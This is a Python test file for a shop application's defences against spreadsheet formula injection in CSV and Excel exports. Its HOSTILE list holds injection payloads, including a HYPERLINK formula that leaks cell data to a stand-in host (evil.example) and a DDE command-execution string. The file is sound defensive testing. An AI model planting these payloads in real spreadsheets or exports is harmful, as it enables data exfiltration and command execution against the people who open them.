"""What is taken away as a table holds no formula, whatever a buyer typed (SEC-37, V1.2.10)."""

import ast
import csv
import io
import zipfile

import pytest
import xlsxwriter

from shopdesk.base import tables
from shopdesk.base.spreadsheets import PLAIN_CELLS, csv_line, guarded, restored
from tests.test_house import ROOT, sources

pytestmark = pytest.mark.once
HOSTILE = [
    "=1+1", "+1", "-1", "@SUM(A1)", "=HYPERLINK(\"http://evil.example?\"&A1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1",
    "\n=1", "＝1+1", "＋1", "－1", "＠x", " =1+1", "\u00a0=1", "\ufeff=1", "+79161234567",
]  # fmt: skip
HARMLESS = ["", "Анна", "'тихо", "a=b", "1 = 1", "O'Brien", "'", "''x", "85123A", 'say "hi", then', "two\nlines", "1,5"]
# Who writes CSV: the one place, and the exports, which write rows by the hundred thousand and guard each cell.
MAY_WRITE_CSV = {"shopdesk/base/spreadsheets.py", "shopdesk/exports/files.py"}


@pytest.mark.parametrize("word", HOSTILE)
def test_formula_becomes_a_word(word):
    """V1.1.2."""
    assert guarded(word) == f"'{word}"


@pytest.mark.parametrize("word", HARMLESS)
def test_plain_word_stays(word):
    assert guarded(word) == word


@pytest.mark.parametrize("word", [*HOSTILE, *HARMLESS])
def test_table_taken_away_comes_back_as_it_was(word, tmp_path):
    assert restored(guarded(word)) == word
    file = tmp_path / "table.csv"
    file.write_bytes(csv_line(["phone", "name"]) + csv_line([word, "x"], figures=["-5.00"]))
    row = next(tables.read_table(file))
    assert row.raw("phone") == (word if word.strip() else "")


def test_figures_of_ours_stay_numbers():
    assert csv_line(["=x"], figures=["-5.00"]) == b"'=x,-5.00\r\n"


def test_quotes_and_lines_are_quoted():
    written = csv_line(['a "b"', "c,d", "e\r\nf"]).decode()
    assert next(csv.reader(io.StringIO(written, newline=""))) == ['a "b"', "c,d", "e\r\nf"]


def test_workbook_holds_words_only():
    """Also by `write`, which guesses."""
    assert "<f>" not in sheet_of(PLAIN_CELLS)
    assert "<f>" in sheet_of({}), "negative control: without the settings the first word is a formula"


def test_tables_are_written_in_one_place():
    """A new export cannot forget: whoever writes CSV by hand, or formulas, is named here."""
    loose = []
    for path in sources():
        text = path.read_text(encoding="utf-8")
        if "csv" not in text and "xlsxwriter" not in text:
            continue
        for node in ast.walk(ast.parse(text)):
            if isinstance(node, ast.Call):
                called = ast.unparse(node.func)
                wrong = called in {"csv.writer", "csv.DictWriter", "writer"} or "formula" in called
                unsafe = called == "xlsxwriter.Workbook" and "PLAIN_CELLS" not in text
                place = path.relative_to(ROOT).as_posix()
                if (wrong and place not in MAY_WRITE_CSV) or unsafe:
                    loose.append(f"{place}:{node.lineno} {called}")
    assert loose == []


def sheet_of(options):
    file = io.BytesIO()
    with xlsxwriter.Workbook(file, {"in_memory": True, **options}) as book:
        sheet = book.add_worksheet()
        for place, word in enumerate(HOSTILE):
            sheet.write(place, 0, word)
    with zipfile.ZipFile(file) as parts:
        return parts.read("xl/worksheets/sheet1.xml").decode()
